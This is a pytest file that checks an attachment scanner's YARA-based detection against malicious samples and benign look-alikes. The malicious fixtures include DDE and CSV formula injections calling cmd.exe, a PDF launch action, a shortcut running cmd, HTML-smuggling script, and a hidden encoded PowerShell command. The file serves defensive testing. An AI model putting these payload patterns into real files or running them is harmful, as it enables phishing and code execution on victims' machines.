"""Attachments that yara_rule_matched must find, and (more) that it must leave alone."""

from __future__ import annotations

import pytest

from tests import files
from tests.workers.attachments.scan import File, found

SAVE = "var b=new Blob([{}]);a.href=URL.createObjectURL(b);a.download='x';a.click()"
SMUGGLER = "<script>" + SAVE.format("Uint8Array.from(atob('UEsDBBQAAAAI'))") + "</script>"
TABLE_SAVER = "<script>function save(){" + SAVE.format("csv") + "}</script>"

BAD: dict[str, File] = {
    "a remote template": (
        "a.docx",
        files.docx(links=files.external("attachedTemplate", "https://files.example/t.dotm")),
    ),
    "an equation object": ("a.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105}}}"),
    "a link file with a command": (
        "a.lnk",
        files.shortcut("C:\\Windows\\System32\\cmd.exe /c start https://files.example/a"),
    ),
    "a DDE field": ("a.rtf", b'{\\rtf1 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}'),
    "a formula": ("a.csv", b"name,value\r\n=cmd|\x27/c calc\x27!A1,2\r\n"),
    "a PDF that starts a program": ("a.pdf", files.pdf(extra="/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>")),
    "a file built in the browser": (
        "a.html",
        files.page(script=SMUGGLER),
    ),
    "a picture with a script": (
        "a.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>window.location = \x27https://login.example\x27</script></svg>',
    ),
    "a program in base64": ("a.txt", b"certificate\n" + b"TVqQAAMAAAAEAAAA//8AALgAAAA" * 2),
    "an encoded command": ("a.bat", b"powershell -nop -w hidden -enc " + b"SQBFAFgA" * 12 + b"\r\n"),
}
GOOD: dict[str, File] = {
    "a template of the company": (
        "a.docx",
        files.docx(
            links=files.external("attachedTemplate", "file:///C:/Templates/letter.dotx").replace(
                'TargetMode="External"', ""
            )
        ),
    ),
    "a template in SharePoint": (
        "a.docx",
        files.docx(links=files.external("attachedTemplate", "https://example.sharepoint.com/t.dotm")),
    ),
    "a web link": ("a.docx", files.docx(links=files.external("hyperlink", "https://www.example.com/"))),
    "rich text": ("a.rtf", b"{\\rtf1\\ansi{\\fonttbl\\f0 Arial;}Hello, see the equation E=mc2.}"),
    "a picture": ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>'),
    "a report that saves its table": (
        "a.html",
        files.page(script=TABLE_SAVER),
    ),
    "a table": ("a.csv", b"command,|,pipe\r\n=SUM(A1:A2),-3,+4\r\n"),
    "a PDF form": ("a.pdf", files.pdf(extra="/OpenAction << /S /JavaScript /JS (this.print()) >>")),
    "a text about commands": ("notes.txt", b"Use powershell -enc only for tests, and cmd /c never.\n"),
    "a patch with a script": ("x.patch", b"+powershell -File build.ps1\n+certutil -hashfile x\n"),
    "a mail with a program": (
        "a.eml",
        b"From: a@example.com\nContent-Transfer-Encoding: base64\n\nTVqQAAMAAAAEAAAA//8AALgAAAA\n",
    ),
}


@pytest.mark.parametrize("file", BAD.values(), ids=BAD)
def test_is_found(file: File) -> None:
    assert len(found("yara_rule_matched", file)) == 1


@pytest.mark.parametrize("file", GOOD.values(), ids=GOOD)
def test_is_left_alone(file: File) -> None:
    assert found("yara_rule_matched", file) == []
